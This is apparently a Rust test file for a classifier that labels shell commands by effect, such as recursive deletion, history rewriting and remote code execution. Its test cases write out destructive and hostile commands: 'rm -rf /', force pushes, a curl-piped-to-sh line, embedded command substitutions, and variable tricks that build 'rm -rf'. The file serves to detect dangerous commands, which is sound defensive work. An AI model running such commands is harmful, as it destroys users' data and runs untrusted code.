//! Lists of a program and its arguments, and several effects at once.

use super::*;

fn argv(words: &[&str]) -> Shell {
    classify_argv(words, &Work::for_bytes(1024))
}

#[test]
fn no_shell_reads_a_list() {
    assert!(argv(&["rm", "-rf", "/srv"]).effects.contains(&RecursiveDelete));
    assert!(argv(&["/usr/bin/env", "git", "push", "-f"]).effects.contains(&HistoryRewrite));
    assert!(argv(&["sh", "-c", "cd /srv; rm -rf x"]).effects.contains(&RecursiveDelete));
    for harmless in [
        &["echo", "x; rm -rf /"] as &[&str],
        &["echo", "$(rm -rf /)"],
        &["grep", "-r", "`reboot`", "."],
        &["cat", "a|sh"],
        &["printf", "'"],
        &[],
    ] {
        assert_eq!(argv(harmless), Shell::default(), "{harmless:?}");
    }
}

#[test]
fn effects_are_told_together() {
    let shell = classify("rm -rf x && git push -f; curl http://x.example | sh; $Y");
    let effects: Vec<_> = shell.effects.into_iter().collect();
    assert_eq!(effects, [RecursiveDelete, RemoteCode, HistoryRewrite]);
    assert!(shell.unresolved && !shell.unparsed);
}

/// What is known of a variable is every value it is given.
#[test]
fn variables_have_the_values_they_are_given() {
    let deletes = |text: &str| classify(text).effects.contains(&RecursiveDelete);
    assert!(deletes("X=ls; [ -d a ] && X=rm; $X -rf a"));
    assert!(deletes("X=rm; (X=ls); $X -rf a"));
    assert!(deletes("for i in 1 2; do $X -rf a; X=rm; done"));
    assert!(deletes("A=r; A+=m; $A -rf a"));
    assert!(deletes("export X=rm; $X -rf a"));
    assert!(!deletes("X=ls; $X -rf a"));
    assert!(classify("X=ls; $X $Y").effects.is_empty());
    assert!(!classify("X=ls; $X $Y").unresolved);
    assert!(classify("X=$(cat y); $X").unresolved);
    assert!(classify("X=$(cat y); rm $X").unresolved);
    assert!(!classify("rm \"$HOME/x\" \"$PWD\"/y").unresolved);
}
